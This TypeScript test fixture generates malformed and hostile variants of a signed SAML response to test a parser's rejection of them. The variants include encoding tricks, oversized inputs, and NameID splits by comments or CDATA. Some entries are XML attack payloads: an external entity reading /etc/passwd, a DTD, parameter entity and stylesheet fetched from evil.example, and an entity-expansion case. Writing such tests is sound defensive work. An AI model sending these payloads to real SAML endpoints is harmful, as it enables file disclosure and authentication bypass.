import { deflateRawSync, gzipSync } from 'node:zlib';
import { NAME, toBase64 } from './own-idp.fixture.js';

/** A good response in bytes that more than one parser would read in more than one way, or that are none. */
export interface ByteCase {
  readonly name: string;
  /** @param xml a signed response that would be accepted. @returns what is posted. */
  readonly post: (xml: string) => string;
}

const text = (name: string, change: (xml: string) => string): ByteCase => ({
  name,
  post: (xml) => toBase64(change(xml)),
});
const bytes = (name: string, change: (xml: string) => Buffer): ByteCase => ({
  name,
  post: (xml) => change(xml).toString('base64'),
});
const posted = (name: string, change: (base64: string) => string): ByteCase => ({
  name,
  post: (xml) => change(toBase64(xml)),
});

const before = (prolog: string) => (xml: string) => prolog + xml;
const behind = (rest: string) => (xml: string) => xml + rest;
/** Into the first element that has text: the issuer, which stands in every mode. */
const inIssuer = (piece: string) => (xml: string) =>
  xml.replace(/(<saml:Issuer>https)/, (_, start: string) => start + piece);

export const BYTE_CASES: readonly ByteCase[] = [
  { name: 'nothing', post: () => '' },
  { name: 'one character', post: () => 'A' },
  { name: 'XML as it is', post: (xml) => xml },
  { name: 'JSON', post: () => toBase64('{"nameID":"root"}') },
  { name: 'HTML', post: () => toBase64('<!doctype html><p>Sign in') },
  posted('base64 with a character that is none', (base64) => `${base64.slice(0, 40)}!${base64.slice(40)}`),
  posted('base64 with a space', (base64) => `${base64.slice(0, 40)} ${base64.slice(40)}`),
  posted('base64 of URLs', (base64) => `-_${base64.slice(2)}`),
  posted('base64 with padding in its middle', (base64) => `QQ==${base64}`),
  posted('base64 cut off', (base64) => base64.slice(0, -1)),
  posted('base64 twice', (base64) => Buffer.from(base64).toString('base64')),
  posted('more than 256 kB', (base64) => base64.replace(/^/, 'ICAg'.repeat(70_000))),
  { name: '10 MB', post: () => 'A'.repeat(10 * 1024 * 1024) },
  bytes('UTF-16, little end first', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')),
  bytes('UTF-16, big end first', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le').swap16()),
  bytes('UTF-8 with a byte order mark', (xml) => Buffer.from(`\ufeff${xml}`)),
  bytes('a byte that is no UTF-8', (xml) =>
    Buffer.concat([Buffer.from(xml.slice(0, 90)), Buffer.from([0xff]), Buffer.from(xml.slice(90))]),
  ),
  bytes('an overlong character', (xml) => Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(xml.slice(1))])),
  bytes('half a surrogate', (xml) =>
    Buffer.concat([Buffer.from(xml.slice(0, 90)), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(xml.slice(90))]),
  ),
  bytes('deflated, as in a redirect', (xml) => deflateRawSync(xml)),
  bytes('gzip', (xml) => gzipSync(xml)),
  text('a NUL', inIssuer('\0')),
  text('a character that XML has not', inIssuer('\u0001')),
  text('a noncharacter', inIssuer('\ufffe')),
  text('declared as latin-1', before('<?xml version="1.0" encoding="iso-8859-1"?>')),
  text('declared as UTF-7', before('<?xml version="1.0" encoding="utf-7"?>')),
  text('XML 1.1', before('<?xml version="1.1"?>')),
  text('two declarations', before('<?xml version="1.0"?><?xml version="1.0"?>')),
  text('document type', before('<!DOCTYPE samlp:Response>')),
  text('document type in small letters', before('<!doctype samlp:Response>')),
  text('external document type', before('<!DOCTYPE samlp:Response SYSTEM "https://evil.example/x.dtd">')),
  text('external entity', before('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
  text('parameter entity', before('<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]>')),
  text('attribute list that declares an id', before('<!DOCTYPE r [<!ATTLIST saml:Assertion Other ID #IMPLIED>]>')),
  text('attribute list with a default', before('<!DOCTYPE r [<!ATTLIST saml:NameID Format CDATA "x">]>')),
  text('a billion laughs', before('<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>')),
  text('document type behind', behind('<!DOCTYPE r>')),
  text('style sheet instruction', before('<?xml-stylesheet href="https://evil.example/x.xsl"?>')),
  text('processing instruction in a value', inIssuer('<?x y?>')),
  text('processing instruction behind', behind('<?x y?>')),
  text('comment in a value', inIssuer('<!---->')),
  text('comment before', before('<!-- x -->')),
  text('comment behind', behind('<!-- x -->')),
  text('comment between elements', (xml) => xml.replace('<samlp:Status>', '<!-- x --><samlp:Status>')),
  text('CDATA in a value', inIssuer('<![CDATA[x]]>')),
  text('CDATA around a value', (xml) => xml.replace(/<saml:Issuer>([^<]*)</, '<saml:Issuer><![CDATA[$1]]><')),
  text('CDATA end in text', inIssuer(']]>')),
  text('an entity nobody declared', inIssuer('&nbsp;')),
  text('a bare ampersand', inIssuer(' & ')),
  text('a reference to NUL', inIssuer('&#0;')),
  text('a reference beyond Unicode', inIssuer('&#x110000;')),
  text('a reference to half a surrogate', inIssuer('&#xD800;')),
  text('an attribute twice', (xml) => xml.replace(' Version="2.0"', ' Version="2.0" Version="2.0"')),
  text('an attribute without quotes', (xml) => xml.replace(' Version="2.0"', ' Version=2.0')),
  text('a prefix that stands for nothing', (xml) => xml.replace('<samlp:Status>', '<y:x/><samlp:Status>')),
  text('the prefix xml for something else', (xml) => xml.replace(' Version=', ' xmlns:xml="urn:x" Version=')),
  text('a prefix taken away', (xml) => xml.replace(' Version=', ' xmlns:q="" Version=')),
  text('elements that cross', (xml) => xml.replace('</samlp:Status>', '</samlp:Response>')),
  text('cut off', (xml) => xml.slice(0, -20)),
  text('two roots', (xml) => xml + xml),
  text('an empty root before', before('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>')),
  text('text before', before('x')),
  text('text behind', behind('x')),
  text('a thousand levels', (xml) => '<a>'.repeat(1000) + xml + '</a>'.repeat(1000)),
  text('ten thousand elements', (xml) => xml.replace('<samlp:Status>', `${'<a/>'.repeat(10_000)}<samlp:Status>`)),
  text('inside another element', (xml) => `<x>${xml}</x>`),
  text(
    'a SOAP envelope',
    (xml) => `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>${xml}</s:Body></s:Envelope>`,
  ),
  text(
    'a logout response',
    () => '<samlp:LogoutResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0"/>',
  ),
  text(
    'a request',
    () => '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0"/>',
  ),
  text('an assertion alone', (xml) => /<saml:(Encrypted)?Assertion [^]*Assertion>/.exec(xml)?.[0] ?? ''),
  text('another namespace for the response', (xml) => xml.replace('SAML:2.0:protocol', 'SAML:1.0:protocol')),
  text('no namespaces at all', (xml) =>
    xml.replaceAll(/<(\/?)[a-z]+:/g, '<$1').replaceAll(/ xmlns(:[a-z]+)?="[^"]*"/g, ''),
  ),
];

/** Splits of the name itself, where it stands in the clear. */
export const NAME_SPLITS: readonly ByteCase[] = [
  ['comment', '<!---->'],
  ['comment with text', '<!-- x -->'],
  ['processing instruction', '<?x?>'],
  ['CDATA', '<![CDATA[]]>'],
  ['empty element', '<x/>'],
  ['entity', '&x;'],
].map(([name, piece]) => text(`NameID split by ${name}`, (xml) => xml.replace(`>${NAME}<`, `>nurse${piece}-4711<`)));
